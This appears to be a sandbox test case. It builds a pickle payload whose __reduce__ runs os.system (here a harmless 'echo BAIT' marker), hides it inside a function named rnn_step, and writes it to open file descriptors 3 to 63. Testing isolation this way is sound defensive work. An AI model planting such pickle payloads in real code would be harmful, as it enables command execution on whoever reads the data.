# expect: CRASHED
"""Sends a pickle that runs a command where it is read."""

import pickle


class Command:
    def __reduce__(self):
        return os.system, ("echo BAIT > __FOLDER__/unpickled",)


def rnn_step(x_t, h_prev, W, W_h, b):
    for descriptor in range(3, 64):
        attempt(os.write, descriptor, pickle.dumps(Command()))
    return x_t
